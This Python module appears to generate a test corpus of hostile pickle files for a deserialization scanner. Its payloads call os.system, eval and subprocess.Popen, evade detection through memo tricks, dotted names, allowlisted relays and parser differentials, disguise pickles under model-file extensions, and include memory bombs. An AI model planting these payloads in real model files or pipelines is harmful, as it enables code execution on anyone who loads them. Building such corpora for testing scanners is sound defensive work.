"""Bare pickles. Each would run something, means two things to two unpicklers, is broken behind its payload, or claims too much."""
import pickle
import struct

from opcodes import *

RUN = name("posix", "system")
NOTE = text(MARKER)


def calls():
    yield "pickle-reduce-os-system.pkl", PROTO2 + payload() + STOP
    yield "pickle-reduce-eval.pkl", PROTO2 + call(name("builtins", "eval"), text("__import__('os').mkdir('hullmark-was-here')")) + STOP
    yield "pickle-reduce-exec-python2.pkl", call(name("__builtin__", "execfile"), text("hullmark-was-here")) + STOP
    yield "pickle-python2-commands.pkl", call(name("commands", "getoutput"), NOTE) + STOP
    yield "pickle-inst-os-system.pkl", MARK + NOTE + b"ios\nsystem\n" + STOP
    yield "pickle-obj-os-system.pkl", MARK + name("os", "system") + NOTE + b"o" + STOP
    yield "pickle-newobj-popen.pkl", PROTO2 + name("subprocess", "Popen") + items(NOTE, integer(0), NONE) + NEWOBJ + STOP
    yield "pickle-newobj-ex-popen.pkl", PROTO4 + name("subprocess", "Popen") + items(NOTE) + dictionary(shell=TRUE) + NEWOBJ_EX + STOP
    yield "pickle-call-then-pop.pkl", PROTO2 + payload() + POP + EMPTY_DICT + STOP
    yield "pickle-call-in-dict-key.pkl", PROTO2 + EMPTY_DICT + payload() + integer(1) + SETITEM + STOP
    yield "pickle-import-only.pkl", PROTO2 + name("antigravity", "__name__") + STOP
    yield "pickle-extension-code.pkl", PROTO2 + b"\x82\x01" + items(NOTE) + REDUCE + STOP
    yield "pickle-persistent-id.pkl", PROTO2 + text("../hullmark-was-here") + BINPERSID + STOP
    yield "pickle-user-class.pkl", PROTO2 + name("__main__", "Net") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + BUILD + STOP


def names_built_on_the_way():
    system = short_text("system")
    posix = short_text("posix")
    end = STACK_GLOBAL + items(NOTE) + REDUCE + STOP
    yield "pickle-stack-global-from-memo.pkl", PROTO4 + posix + MEMOIZE + POP + system + MEMOIZE + POP + get(0) + get(1) + end
    yield "pickle-stack-global-from-text-memo.pkl", PROTO4 + posix + b"p7\n" + POP + system + b"p8\n" + POP + b"g7\ng8\n" + end
    yield "pickle-stack-global-from-long-binget.pkl", PROTO4 + posix + b"r\x00\x01\x00\x00" + POP + system + b"r\x01\x01\x00\x00" + POP + b"j\x00\x01\x00\x00j\x01\x01\x00\x00" + end
    yield "pickle-stack-global-memo-overwritten.pkl", PROTO4 + short_text("collections") + put(0) + POP + posix + put(0) + POP + short_text("OrderedDict") + put(1) + POP + system + put(1) + POP + get(0) + get(1) + end
    yield "pickle-stack-global-pop-between.pkl", PROTO4 + posix + short_text("x") + POP + system + MARK + short_text("OrderedDict") + POP_MARK + end
    yield "pickle-stack-global-dup.pkl", PROTO4 + short_text("antigravity") + DUP + STACK_GLOBAL + STOP
    yield "pickle-stack-global-computed.pkl", PROTO4 + call(name("builtins", "str"), short_text("posix")) + system + end
    yield "pickle-stack-global-nested-name.pkl", PROTO4 + short_text("collections") + short_text("abc.sys.modules") + STACK_GLOBAL + STOP
    yield "pickle-dotted-name-random.pkl", PROTO4 + call(name("random", "_os.system"), NOTE) + STOP
    yield "pickle-dotted-name-pathlib.pkl", PROTO4 + call(name("pathlib", "os.mkdir"), text("hullmark-was-here")) + STOP
    yield "pickle-name-with-nul.pkl", PROTO2 + name("collections\0", "OrderedDict") + EMPTY_TUPLE + REDUCE + STOP
    yield "pickle-name-with-crlf.pkl", b"ccollections\r\nOrderedDict\r\n)R."


GADGETS = {
    "pydoc-locate": ("pydoc", "locate"),
    "pkgutil-resolve-name": ("pkgutil", "resolve_name"),
    "timeit": ("timeit", "timeit"),
    "profile": ("cProfile", "run"),
    "linecache": ("linecache", "getlines"),
    "uuid": ("uuid", "_get_command_stdout"),
    "imaplib": ("imaplib", "IMAP4_stream"),
    "osx-support": ("_osx_support", "_read_output"),
    "asyncio": ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
    "logging-file": ("logging", "FileHandler"),
    "numpy-f2py": ("numpy.f2py.crackfortran", "myeval"),
    "numpy-runstring": ("numpy.testing._private.utils", "runstring"),
    "torch-collect-env": ("torch.utils.collect_env", "run"),
    "torch-inductor": ("torch._inductor.codecache", "compile_file"),
    "torch-config": ("torch.utils._config_module", "ConfigModule.load_config"),
    "torch-load": ("torch", "load"),
    "torch-load-from-bytes": ("torch.storage", "_load_from_bytes"),
    "torch-from-file": ("torch", "from_file"),
    "distutils": ("distutils.file_util", "write_file"),
    "pip": ("pip", "main"),
    "runpy": ("runpy", "run_path"),
    "gzip-open": ("gzip", "open"),
    "sqlite": ("sqlite3", "connect"),
    "numpy-memmap": ("numpy", "memmap"),
    "numpy-load": ("numpy", "load"),
    "joblib-load": ("joblib", "load"),
    "pickle-loads": ("_pickle", "loads"),
    "tempfile": ("tempfile", "mkdtemp"),
    "operator": ("operator", "methodcaller"),
    "getattr": ("builtins", "getattr"),
}


def gadgets():
    for word, (module, attribute) in GADGETS.items():
        yield f"pickle-gadget-{word}.pkl", PROTO2 + call(name(module, attribute), text("hullmark-was-here")) + STOP


def relays():
    """Names on the list of harmless ones, used so that they call what is not."""
    yield "pickle-relay-map.pkl", PROTO2 + call(name("builtins", "list"), call(name("builtins", "map"), RUN, EMPTY_LIST + NOTE + APPEND)) + STOP
    yield "pickle-relay-partial.pkl", PROTO2 + call(call(name("functools", "partial"), RUN, NOTE)) + STOP
    yield "pickle-relay-reduce.pkl", PROTO2 + call(name("functools", "reduce"), RUN, items(NOTE)) + STOP
    yield "pickle-relay-defaultdict-factory.pkl", PROTO2 + call(name("collections", "defaultdict"), RUN) + STOP
    yield "pickle-relay-type-v2.pkl", PROTO2 + call(name("torch._tensor", "_rebuild_from_type_v2"), RUN, name("torch", "Tensor"), items(NOTE), NONE) + STOP
    yield "pickle-relay-ordered-dict-reduce.pkl", PROTO2 + call(name("collections", "OrderedDict"), RUN) + STOP
    yield "pickle-relay-build-setstate.pkl", PROTO2 + name("collections", "OrderedDict") + EMPTY_TUPLE + NEWOBJ + dictionary(__setstate__=RUN) + BUILD + NOTE + BUILD + STOP
    yield "pickle-relay-namespace-append.pkl", PROTO2 + name("types", "SimpleNamespace") + EMPTY_TUPLE + REDUCE + dictionary(append=RUN) + BUILD + NOTE + APPEND + STOP
    yield "pickle-relay-namespace-extend.pkl", PROTO2 + name("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ + dictionary(extend=RUN) + BUILD + MARK + NOTE + APPENDS + STOP
    yield "pickle-relay-set-add.pkl", PROTO4 + name("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ + dictionary(add=RUN) + BUILD + MARK + NOTE + b"\x90" + STOP
    yield "pickle-relay-reconstructor.pkl", PROTO2 + call(name("copyreg", "_reconstructor"), name("sqlite3", "Connection"), name("builtins", "object"), NONE) + STOP
    yield "pickle-relay-numpy-reconstruct.pkl", PROTO2 + call(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "memmap"), items(integer(0)), blob(b"b")) + STOP
    yield "pickle-relay-numpy-dtype.pkl", PROTO2 + call(name("numpy", "dtype"), RUN) + STOP
    yield "pickle-relay-codecs.pkl", PROTO2 + call(name("_codecs", "encode"), text("x"), text("zlib")) + STOP
    yield "pickle-relay-name-as-value.pkl", PROTO2 + EMPTY_LIST + name("builtins", "set") + APPEND + STOP


def broken_behind_the_payload():
    start = PROTO2 + payload()
    yield "pickle-broken-no-stop.pkl", start
    yield "pickle-broken-bad-opcode.pkl", start + b"\xff\xff" + STOP
    yield "pickle-broken-bad-integer.pkl", start + b"Ififty\n" + STOP
    yield "pickle-broken-bad-float.pkl", start + b"F1.0.0\n" + STOP
    yield "pickle-broken-bad-utf8.pkl", start + b"X\x02\x00\x00\x00\xff\xfe" + STOP
    yield "pickle-broken-missing-memo.pkl", start + get(77) + STOP
    yield "pickle-broken-stack-underflow.pkl", start + POP * 3 + STOP
    yield "pickle-broken-stack-not-empty.pkl", start + integer(1) + integer(2) + STOP
    yield "pickle-broken-protocol-99.pkl", b"\x80\x63" + payload() + STOP
    yield "pickle-broken-cut-in-argument.pkl", start + b"B\xff\x00\x00\x00short"


def differentials():
    """Bytes that Python's two unpicklers, or a checker and an unpickler, read differently."""
    yield "pickle-int-hex.pkl", b"I0x10\n."
    yield "pickle-int-binary.pkl", b"I0b11\n."
    yield "pickle-int-spaces.pkl", b"I 10 \n."
    yield "pickle-int-underscores.pkl", b"I1_0\n."
    yield "pickle-float-spaces.pkl", b"F 1.0\n."
    yield "pickle-float-underscores.pkl", b"F1_0\n."
    yield "pickle-long-without-l.pkl", b"L10\n."
    yield "pickle-memo-key-leading-zero.pkl", b"I1\np00\n0g0\n."
    yield "pickle-memo-key-plus.pkl", b"I1\np+7\n0g7\n."
    yield "pickle-binstring-negative.pkl", b"T\xff\xff\xff\xff" + payload() + STOP
    hidden = payload() + STOP
    straddling = b"C" + bytes([len(hidden) + 8]) + b"1234"
    yield "pickle-frame-straddling.pkl", PROTO4 + frame(straddling) + b"5678" + hidden + STOP
    yield "pickle-frame-huge.pkl", PROTO4 + b"\x95" + struct.pack("<Q", 1 << 30) + b"K\x01."
    yield "pickle-frame-2-63.pkl", PROTO4 + b"\x95" + struct.pack("<Q", 1 << 63) + b"K\x01."
    yield "pickle-frame-in-frame.pkl", PROTO4 + frame(b"\x95" + struct.pack("<Q", 2) + b"K\x01") + STOP
    yield "pickle-protocol-in-the-middle.pkl", PROTO2 + b"K\x01" + b"\x80\x05" + STOP
    yield "pickle-long1-padded.pkl", PROTO2 + b"\x8a\x04\x01\x00\x00\x00" + STOP


def several_streams():
    harmless = pickle.dumps({"lr": 0.1}, protocol=2)
    attack = PROTO2 + payload() + STOP
    yield "pickle-second-stream.pkl", harmless + attack
    yield "pickle-second-stream-after-junk.pkl", harmless + b"\0" * 32 + attack
    yield "pickle-trailing-bytes.pkl", harmless + b"trailing"
    nested = call(name("_pickle", "loads"), blob(attack))
    yield "pickle-nested-loads.pkl", PROTO2 + nested + STOP
    yield "pickle-nested-torch-bytes.pkl", PROTO2 + call(name("torch.storage", "_load_from_bytes"), blob(attack)) + STOP


def disguises():
    attack = PROTO2 + payload() + STOP
    for ending in (".safetensors", ".onnx", ".npy", ".npz", ".txt", ".json", ".PKL", ""):
        yield f"pickle-called{ending}" if ending else "pickle-called-nothing", attack
    yield "pickle-looks-like-text.txt", b"cposix\nsystem\n(S'touch hullmark-was-here'\ntR.\nand more text\n"


def expansion():
    doubling = PROTO2 + EMPTY_LIST + put(0) + POP
    for level in range(60):
        doubling += EMPTY_LIST + MARK + get(level) + get(level) + APPENDS + put(level + 1) + (POP if level < 59 else b"")
    yield "pickle-billion-laughs.pkl", doubling + STOP
    tuples = PROTO2 + EMPTY_TUPLE + (put(0) + get(0) + TUPLE2) * 200 + STOP
    yield "pickle-billion-laughs-tuples.pkl", tuples
    yield "pickle-nested-lists.pkl", EMPTY_LIST * 1200 + APPEND * 1199 + STOP
    yield "pickle-nested-tuples.pkl", PROTO2 + EMPTY_TUPLE + TUPLE1 * 1500 + STOP
    yield "pickle-list-in-itself.pkl", PROTO2 + EMPTY_LIST + put(0) + get(0) + APPEND + STOP
    yield "pickle-dict-in-itself.pkl", PROTO2 + EMPTY_DICT + put(0) + text("self") + get(0) + SETITEM + STOP
    yield "pickle-marks-only.pkl", PROTO2 + MARK * 1500
    yield "pickle-bytes-of-1-tb.pkl", PROTO4 + b"\x8e" + struct.pack("<Q", 1 << 40) + b"short" + STOP
    yield "pickle-text-of-2-63.pkl", PROTO4 + b"\x8d" + struct.pack("<Q", 1 << 63) + b"short" + STOP
    yield "pickle-bytearray-of-2-64.pkl", b"\x80\x05\x96" + b"\xff" * 8 + b"short" + STOP
    yield "pickle-long4-of-2-gb.pkl", PROTO2 + b"\x8b" + struct.pack("<i", 2**31 - 1) + b"\x01" + STOP
    yield "pickle-long4-negative.pkl", PROTO2 + b"\x8b" + struct.pack("<i", -1) + b"\x01" + STOP
    yield "pickle-memo-key-2-31.pkl", PROTO2 + EMPTY_DICT + b"r\xff\xff\xff\x7f" + STOP
    yield "pickle-integer-of-4000-digits.pkl", b"I" + b"9" * 4000 + b"\n" + STOP
    yield "pickle-out-of-band-buffer.pkl", b"\x80\x05\x97" + STOP
    yield "pickle-unhashable-key.pkl", PROTO2 + EMPTY_DICT + EMPTY_LIST + integer(1) + SETITEM + STOP
    yield "pickle-control-characters.pkl", PROTO2 + text("\x1b[2J\x1b]0;owned\x07\r\n\u202e") + STOP
    yield "pickle-lone-surrogate.pkl", PROTO2 + b"X\x03\x00\x00\x00\xed\xa0\x80" + STOP
    yield "pickle-name-with-escape.pkl", PROTO2 + call(name("os\x1b[31m", "system\x1b]0;x\x07"), NOTE) + STOP


def cases():
    for family in (calls, names_built_on_the_way, gadgets, relays, broken_behind_the_payload, differentials, several_streams, disguises, expansion):
        yield from family()
